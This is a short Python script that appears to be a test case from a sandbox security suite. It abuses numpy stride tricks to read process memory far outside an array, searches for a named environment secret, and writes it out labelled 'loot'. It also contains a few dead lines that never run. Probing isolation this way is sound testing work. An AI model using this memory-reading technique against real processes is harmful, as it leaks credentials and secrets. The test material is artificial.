# kind: gadgets
# tries: Read this process's memory far outside of an array, looking for the environment's secret
# control: none

import os
from pathlib import Path

import numpy as np

a = np.zeros(64, dtype="u1")
name = VICTIM["env"].encode() + b"="
out = Path(os.environ["OUTPUT_FILE_PATH"])
for direction in (1, -1):
    for page in range(1, 4000):
        view = np.lib.stride_tricks.as_strided(a[:1], shape=(4096,), strides=(1,)) if page == 0 else None
        raw = np.ndarray(4096, dtype="u1", buffer=None) if view is not None else None
        chunk = np.lib.stride_tricks.as_strided(a, shape=(page + 1, 4096), strides=(4096 * direction, 1))[page].tobytes()
        at = chunk.find(name)
        if at >= 0:
            out.write_text("loot\n" + chunk[at : at + 80].decode("latin-1"))
